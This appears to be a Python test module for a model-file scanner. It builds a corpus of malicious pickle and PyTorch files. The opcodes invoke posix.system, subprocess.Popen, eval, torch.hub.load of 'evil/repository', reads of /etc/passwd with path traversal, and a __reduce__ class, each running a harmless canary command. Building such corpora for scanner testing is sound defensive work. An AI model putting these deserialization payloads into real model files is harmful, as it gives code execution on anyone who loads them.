"""The corpus of hostile files, and what it is made of: opcodes, archives, payloads.

Payloads run `touch $SOAT_CANARY` if anything executes them.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from foreign import make_generator, rosinality_state

COMMAND = b"touch $SOAT_CANARY"
CORPUS: dict[str, Callable[[Path], object]] = {}
# Files in which the attack sits where nobody looks, or where a changed byte may make no difference: they may load.
MAY_LOAD = ("unread/", "mutated/")


def entry(name):
    def register(function):
        CORPUS[name] = function
        return function

    return register


def content(name, data: bytes | Callable[[], bytes]):
    CORPUS[name] = lambda path: path.write_bytes(data() if callable(data) else data)


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def command() -> bytes:
    return b"X" + struct.pack("<I", len(COMMAND)) + COMMAND


# Calls, each as the opcodes that leave one object on the stack.

EVAL = text("__import__('os').system('touch $SOAT_CANARY')")
CALLS = {
    "reduce": b"cposix\nsystem\n" + command() + b"\x85R",
    "stack_global": b"\x8c\x05posix\x8c\x06system\x93" + command() + b"\x85R",
    "inst": b"(" + command() + b"iposix\nsystem\n",
    "obj": b"(cposix\nsystem\n" + command() + b"o",
    "newobj": b"csubprocess\nPopen\n(]" + text("sh") + b"a" + text("-c") + b"a" + command() + b"at\x81",
    "newobj_ex": b"csubprocess\nPopen\n" + command() + b"\x85}" + text("shell") + b"\x88s\x92",
    "build": b"csubprocess\nPopen\n)\x81}" + text("__class__") + b"cbuiltins\nobject\nsb",
    "build_setstate": b"cbuiltins\nobject\n)\x81}" + text("__setstate__") + b"cposix\nsystem\nsb" + command() + b"b",
    "eval": b"cbuiltins\neval\n" + EVAL + b"\x85R",
    "exec": b"cbuiltins\nexec\n" + EVAL + b"\x85R",
    "python2_eval": b"c__builtin__\neval\n" + EVAL + b"\x85R",
    "getattr": b"cbuiltins\ngetattr\ncos\n__dict__\n" + text("system") + b"\x86R" + command() + b"\x85R",
    "import": b"cbuiltins\n__import__\n" + text("antigravity") + b"\x85R",
    "importlib": b"cimportlib\nimport_module\n" + text("this") + b"\x85R",
    "dotted_name": b"\x8c\x08builtins\x8c\x0bint.__new__\x93\x8c\x05posix\x8c\x06system\x93\x86R",
    "partial": b"cfunctools\npartial\ncposix\nsystem\n" + command() + b"\x86R)R",
    "reconstructor": b"ccopyreg\n_reconstructor\ncsubprocess\nPopen\ncbuiltins\nobject\nN\x87R",
    "copyreg_newobj": b"ccopyreg\n__newobj__\ncsubprocess\nPopen\n" + command() + b"\x86R",
    "reduce_ex": b"cos\n__reduce_ex__\nK\x02\x85R",
    "torch_load": b"ctorch\nload\n" + text("/etc/passwd") + b"\x85R",
    "torch_hub": b"ctorch.hub\nload\n" + text("evil/repository") + text("model") + b"\x86R",
    "numpy_load": b"cnumpy\nload\n" + text("/etc/passwd") + b"\x85R",
    "open_for_writing": b"cbuiltins\nopen\n" + text("soat_was_here") + text("w") + b"\x86R",
    "bytearray": b"cbuiltins\nbytearray\n\x8a\x06\x00\x00\x00\x00\x00\x10\x85R",
    "typed_tensor": b"ctorch._tensor\n_rebuild_from_type_v2\n(cposix\nsystem\ncbuiltins\nint\n"
    + command()
    + b"\x85NtR",
    "persistent_id": b"(" + text("storage") + b"cposix\nsystem\n" + text("../../etc/passwd") + text("cpu") + b"K\x08tQ",
    "persistent_text": b"P" + COMMAND + b"\n",
    "extension": b"\x82\x01",
    "object_array": b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85C\x01b\x87R(K\x01K\x01\x85"
    b"cnumpy\ndtype\n" + text("O8") + b"\x89\x88\x87R\x89](cposix\nsystem\n" + command() + b"\x85Retb",
}


def zip_of(entries: dict[str, bytes], method=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_zip(pickled: bytes, **storages: bytes) -> bytes:
    return zip_of({"a/data.pkl": pickled, "a/version": b"3\n", **{f"a/data/{k}": v for k, v in storages.items()}})


def legacy(pickled: bytes, keys=(), data: bytes = b"") -> bytes:
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    head = [pickle.dumps(item, 2) for item in (0x1950A86A20F9469CFC6C, 1001, system)]
    return b"".join(head) + pickled + pickle.dumps(list(keys), 2) + data


def nested(data: bytes) -> bytes:
    """A tensor whose storage is a torch file of its own, as in NVIDIA's pickles, inside a generator module."""
    storage = b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(data)) + data + b"\x85R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00(K\x02K\x02tK\x02K\x01\x86\x89)tR"


def module(parameters: bytes) -> bytes:
    """The opcodes of a persistent module with `const` and `weight` parameters given as opcodes."""
    state = b"}(" + text("_parameters") + b"}(" + parameters + b"u" + text("_buffers") + b"}" + text("_modules") + b"}u"
    meta = b"}(" + text("module_src") + text("import os; os.system('touch $SOAT_CANARY')") + text("class_name")
    meta += text("Generator") + text("state") + state + b"u"
    return b"ctorch_utils.persistence\n_reconstruct_persistent_obj\n" + meta + b"\x85R"


BASE = rosinality_state(make_generator())


class Execute:
    """Runs the payload when unpickled the ordinary way."""

    def __reduce__(self):
        return os.system, (COMMAND.decode(),)

    def __hash__(self):
        return 1
